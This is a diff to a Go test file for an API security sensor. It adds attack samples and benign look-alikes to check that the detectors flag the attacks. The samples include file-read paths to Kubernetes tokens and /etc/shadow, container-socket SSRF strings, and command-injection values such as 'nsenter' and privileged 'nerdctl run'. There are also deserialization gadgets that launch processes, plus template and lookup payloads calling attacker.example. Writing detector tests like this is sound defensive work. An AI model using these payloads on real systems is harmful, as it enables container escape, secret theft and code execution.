@@ -1,5 +1,12 @@
 package tier1
 
+import (
+	"slices"
+	"testing"
+
+	"github.com/apisensor/sensor/decoders"
+)
+
 // What an attacker reads or runs on a Kubernetes node or in a container,
 // where the sensor runs as a DaemonSet: the files that hold the cluster's
 // and the cloud account's credentials, the container runtimes' sockets,
@@ -22,10 +29,21 @@ func init() {
 		attackEntry{lQ, "f", "/run/secrets/db_password", "lfi-sensitive-file", encAll},
 		attackEntry{lJ, "path", "/run/secrets/kubernetes.io/serviceaccount/token", "lfi-sensitive-file", 0},
 		// The container runtimes' sockets, as a path or in a URL.
-		attackEntry{lQ, "socket", "/var/run/docker.sock", "lfi-sensitive-file", encAll},
-		attackEntry{lJ, "endpoint", "unix:///run/containerd/containerd.sock", "lfi-sensitive-file", encURL},
-		attackEntry{lQ, "url", "http://unix:/var/run/docker.sock:/containers/json", "lfi-sensitive-file", encURL},
-		attackEntry{lJ, "sock", "/var/run/crio/crio.sock", "lfi-sensitive-file", 0},
+		attackEntry{lQ, "socket", "/var/run/docker.sock", "ssrf-runtime-socket", encAll},
+		attackEntry{lJ, "endpoint", "unix:///run/containerd/containerd.sock", "ssrf-runtime-socket", encURL},
+		attackEntry{lQ, "url", "http://unix:/var/run/docker.sock:/containers/json", "ssrf-runtime-socket", encURL},
+		attackEntry{lJ, "url", "http+unix://%2Fvar%2Frun%2Fdocker.sock/containers/json", "ssrf-runtime-socket", 0},
+		attackEntry{lJ, "sock", "/var/run/crio/crio.sock", "ssrf-runtime-socket", 0},
+		attackEntry{lJ, "docker_host", "unix:///run/user/1000/podman/podman.sock", "ssrf-runtime-socket", 0},
+		attackEntry{lQ, "host", "npipe:////./pipe/docker_engine", "ssrf-runtime-socket", encURL},
+		// Paths written with repeated slashes, and a thread's own /proc.
+		attackEntry{lQ, "f", "/proc/self//environ", "lfi-sensitive-file", encURL},
+		attackEntry{lJ, "f", "/var/run//secrets/kubernetes.io/serviceaccount/token", "lfi-sensitive-file", 0},
+		attackEntry{lQ, "f", "/proc/thread-self/environ", "lfi-sensitive-file", encURL},
+		attackEntry{lH, "referer", "http://127.0.0.1:8080/api/v1/files//etc/shadow", "lfi-sensitive-file", 0},
+		attackEntry{lQ, "f", "/var/lib/rancher/k3s/agent/kubelet.kubeconfig", "lfi-sensitive-file", encURL},
+		// A command reading a file, with words after it.
+		attackEntry{lQ, "name", "fold /etc/shadow and some words", "lfi-sensitive-file", encURL},
 		// Process state that tells a container from its host.
 		attackEntry{lQ, "f", "/proc/self/mounts", "lfi-sensitive-file", encAll},
 		attackEntry{lQ, "f", "/proc/1/cgroup", "lfi-sensitive-file", encURL},
@@ -44,6 +62,9 @@ func init() {
 		attackEntry{lJ, "name", "x; crictl ps", "cmdi", encURL},
 		attackEntry{lQ, "host", "127.0.0.1;nsenter -t 1 -m -u -i -n sh", "cmdi", encURL},
 		attackEntry{lJ, "ip", "1.2.3.4 && etcdctl get / --prefix --keys-only", "cmdi", 0},
+		attackEntry{lQ, "host", ";/usr/local/bin/kubectl get secrets -A", "cmdi", encURL},
+		attackEntry{lQ, "host", ";k3s kubectl get secrets -A", "cmdi", encURL},
+		attackEntry{lJ, "name", "x;nerdctl run --privileged -v /:/host alpine", "cmdi", 0},
 		attackEntry{lQ, "q", "$(printf '\\x69\\x64')", "cmdi", encAll},
 		attackEntry{lJ, "name", "a`printf '\\151\\144'`", "cmdi", 0},
 
@@ -57,7 +78,11 @@ func init() {
 		corpusEntry{lJ, "message", "Mount /var/run/docker.sock into the CI container to build images"},
 		corpusEntry{lJ, "body", "the kubeconfig is in /etc/kubernetes/admin.conf on the control plane"},
 		corpusEntry{lQ, "q", "where does k3s keep /etc/rancher/k3s/k3s.yaml"},
-		corpusEntry{lJ, "message", "Copy /etc/kubernetes/pki/ca.key to the new control plane node."},
+		corpusEntry{lJ, "message", "Then copy the file /etc/kubernetes/pki/ca.key to the new control plane node."},
+		corpusEntry{lJ, "volumes", "/var/run/docker.sock:/var/run/docker.sock"},
+		corpusEntry{lJ, "env", "DOCKER_HOST=unix:///var/run/docker.sock"},
+		corpusEntry{lQ, "q", "Is /var/run/docker.sock exposed?"},
+		corpusEntry{lJ, "message", "Mount /var/run/docker.sock read-only"},
 		corpusEntry{lJ, "note", "Read the secret from the file mounted at /run/secrets/db_password"},
 		corpusEntry{lQ, "q", "docker secrets"},
 		corpusEntry{lJ, "path", "/run/user/1000/app.log"},
@@ -91,6 +116,20 @@ func init() {
 		attackEntry{lJ, "xml", `<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>`, "deserialization-gadget", encURL},
 		attackEntry{lQ, "xml", `<java.util.PriorityQueue serialization='custom'><unserializable-parents/></java.util.PriorityQueue>`, "deserialization-gadget", encURL},
 		attackEntry{lJ, "xml", `<map><entry><java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder></entry></map>`, "deserialization-gadget", 0},
+		attackEntry{lQ, "xml", "<sorted-set><dynamic-proxy ><interface>java.lang.Comparable</interface></dynamic-proxy></sorted-set>", "deserialization-gadget", encURL},
+		attackEntry{lJ, "xaml", `<ObjectDataProvider x:Key="a" ObjectType="{x:Type d:Process}"><ObjectDataProvider.MethodName>Start</ObjectDataProvider.MethodName></ObjectDataProvider>`, "deserialization-gadget", 0},
+		attackEntry{lJ, "yaml", `!<tag:yaml.org,2002:python/object/apply:os.system> ["id"]`, "deserialization-gadget", encURL},
+		attackEntry{lJ, "yaml", "%TAG !p! tag:yaml.org,2002:python/object/apply:\n--- !p!os.system [\"id\"]", "deserialization-gadget", 0},
+		attackEntry{lJ, "data", `{"$type":"Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties, Microsoft.PowerShell.Editor"}`, "deserialization-gadget", 0},
+		// The same documents sent as a body, which the decoders take
+		// apart: the names say it.
+		attackEntry{lJ, "$type", "System.Windows.Data.ObjectDataProvider, PresentationFramework", "deserialization-gadget", 0},
+		attackEntry{lJ, "order.items[0].$type", "System.Security.Claims.ClaimsIdentity, mscorlib", "deserialization-gadget", 0},
+		attackEntry{lX, "/sorted-set/dynamic-proxy/interface", "java.lang.Comparable", "deserialization-gadget", 0},
+		attackEntry{lX, "/map/entry/java.lang.ProcessBuilder/command/string", "id", "deserialization-gadget", 0},
+		attackEntry{lX, "/java.util.PriorityQueue/@serialization", "custom", "deserialization-gadget", 0},
+		attackEntry{lX, "/ResourceDictionary/ObjectDataProvider/@MethodName", "Start", "deserialization-gadget", 0},
+		attackEntry{lX, "/ResourceDictionary/ObjectDataProvider/ObjectDataProvider.MethodName", "Start", "deserialization-gadget", 0},
 	)
 	benign = append(benign,
 		corpusEntry{lJ, "yaml", "photo: !!binary R0lGODlhDAAMAIQAAP"},
@@ -100,6 +139,11 @@ func init() {
 		corpusEntry{lJ, "ld", `{"@context":"https://schema.org","@type":"Product","name":"Lamp"}`},
 		corpusEntry{lJ, "message", "Use XStream's allow list; never deserialize untrusted XML."},
 		corpusEntry{lJ, "note", "Serialization format changed in v2"},
+		corpusEntry{lJ, "$type", "MyShop.Models.Order, MyShop"},
+		corpusEntry{lJ, "items[0].$type", "Product"},
+		corpusEntry{lX, "/config/@serialization", "json"},
+		corpusEntry{lX, "/docs/objectDataProvider/title", "Binding to methods"},
+		corpusEntry{lJ, "code", "`Exit code: ${exec(cmd).status}`"},
 	)
 }
 
@@ -111,21 +155,57 @@ func init() {
 		attackEntry{lQ, "name", "{{['id']|filter('system')}}", "ssti", encAll},
 		attackEntry{lJ, "title", "{{['cat /etc/passwd']|map('passthru')|join}}", "ssti", 0},
 		attackEntry{lQ, "q", `{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}`, "ssti", encURL},
-		attackEntry{lQ, "q", "${applicationScope}", "ssti", encAll},
+		attackEntry{lQ, "q", "${applicationScope.getAttribute('x').getClass()}", "ssti", encAll},
 		attackEntry{lJ, "name", `${pageContext.request.getSession().setAttribute("admin",true)}`, "ssti", 0},
 		attackEntry{lQ, "q", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "commons-text-lookup", encAll},
 		attackEntry{lJ, "text", "${url:UTF-8:http://attacker.example/x}", "commons-text-lookup", encURL},
 		attackEntry{lQ, "q", "${file:utf-8:/etc/passwd}", "commons-text-lookup", encURL},
 		attackEntry{lH, "user-agent", "${dns:address|attacker.example}", "commons-text-lookup", 0},
 		attackEntry{lQ, "q", "${${lower:d}ns:address|attacker.example}", "commons-text-lookup", encURL},
+		attackEntry{lQ, "q", "${url:ISO_8859_1:http://attacker.example/x}", "commons-text-lookup", encURL},
+		attackEntry{lJ, "text", "${url:GBK:https://attacker.example/x}", "commons-text-lookup", 0},
+		attackEntry{lJ, "text", "${url:UTF-32BE:http://attacker.example/x}", "commons-text-lookup", 0},
+		attackEntry{lQ, "q", "${xml:/etc/app/config.xml:/a}", "commons-text-lookup", encURL},
+		attackEntry{lJ, "name", "{{['id']|filter('sys'~'tem')}}", "ssti", 0},
+		attackEntry{lQ, "q", "{{['/etc/passwd']|filter('readfile')}}", "ssti", encURL},
 	)
 	benign = append(benign,
 		corpusEntry{lJ, "template", "{{ items|filter(i => i.active) }}"},
 		corpusEntry{lJ, "template", "{{ name|sort('asc') }}"},
 		corpusEntry{lJ, "template", "${sessionScope.user.name}"},
+		corpusEntry{lJ, "template", `<link href="${pageContext.request.contextPath}/css/app.css">`},
+		corpusEntry{lJ, "template", "${applicationScope}"},
+		corpusEntry{lJ, "config", "${file.path:/var/app}"},
+		corpusEntry{lJ, "config", "${xml.enabled:true}"},
 		corpusEntry{lJ, "config", "${url:https://api.example.com/v2}"},
 		corpusEntry{lJ, "config", "${dns:cache.internal}"},
 		corpusEntry{lJ, "config", "${file:app.yml}"},
 		corpusEntry{lJ, "message", "The script: javascript: URLs are blocked"},
 	)
+}
+
+// TestDeserializationBodies sends gadget documents as request bodies,
+// which the decoders take apart into parameters (JSON keys, XML paths):
+// the gadget must be found from them.
+func TestDeserializationBodies(t *testing.T) {
+	ds := allDetectors(t)
+	for _, c := range []struct{ ct, body string }{
+		{"application/json", `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]}}`},
+		{"application/xml", `<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="a" ObjectType="{x:Type Diag:Process}" MethodName="Start"></ObjectDataProvider></ResourceDictionary>`},
+		{"application/xml", `<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>`},
+		{"application/xml", `<java.util.PriorityQueue serialization='custom'><unserializable-parents/><java.util.PriorityQueue><default><size>2</size></default><int>3</int></java.util.PriorityQueue></java.util.PriorityQueue>`},
+	} {
+		x := exchange()
+		x.Request.Method, x.Request.Path, x.Request.URI = "POST", "/api/v1/import", "/api/v1/import"
+		x.Request.Headers = append(x.Request.Headers, decoders.Header{Name: "content-type", Value: c.ct})
+		x.Request.Body = []byte(c.body)
+		decoders.ExtractParams(x, nil)
+		var got []string
+		for _, a := range inspectAll(ds, x) {
+			got = append(got, a.RuleId)
+		}
+		if !slices.Contains(got, "deserialization-gadget") {
+			t.Errorf("%s %.60s…: %v, want deserialization-gadget", c.ct, c.body, got)
+		}
+	}
 }
